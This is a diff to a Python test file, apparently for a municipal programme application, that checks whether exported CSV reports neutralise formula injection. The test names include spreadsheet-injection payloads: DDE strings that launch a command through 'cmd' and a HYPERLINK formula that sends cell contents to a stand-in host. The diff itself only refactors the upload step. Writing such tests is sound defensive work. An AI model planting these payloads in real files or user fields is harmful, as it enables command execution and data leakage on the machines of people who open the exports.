@@ -10,6 +10,7 @@ Each file is read back with an independent reader (the csv module, openpyxl's lo
 
 import csv
 import io
+import re
 from datetime import date
 from pathlib import Path
 
@@ -27,6 +28,7 @@ from mailroom.printing.runs import print_programme
 from secretariat.core.applications.states import Status
 from secretariat.core.auth.actor import Actor
 from secretariat.core.households.models import Household
+from tests.exchange.upload_support import uploaded
 
 SYSTEM = Actor.system("test")
 NAMES = ["=1+1", "@SUM(1+9)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '+HYPERLINK("http://x.example/?"&A1)',
@@ -86,10 +88,8 @@ def test_the_report_downloaded_from_the_liaison_s_page_quotes_a_formula(factory,
     tenant = factory.tenant(households=0)
     token = login(factory.user("liaison", tenant.municipality))
     rows[3][4] = "@SUM(1+9)*cmd|' /C calc'!A0"
-    with write(rows).open("rb") as handle:
-        page = client.post(f"/programmes/{tenant.programme.id}/exchange/targets", files={"file": ("t.csv", handle)},
-                           data={"csrf_token": token}, follow_redirects=False)
-    report = client.get(page.headers["location"] + "/report.csv")
+    page = uploaded(client, tenant.programme, token, write(rows), "t.csv")
+    report = client.get(re.search(r'href="(/exchange/files/\d+/report\.csv)"', page.text).group(1))
     assert [row[2] for row in csv_rows(report.content) if row[0] == "4"] == ["'@SUM(1+9)*cmd|' /C calc'!A0"]
 
 
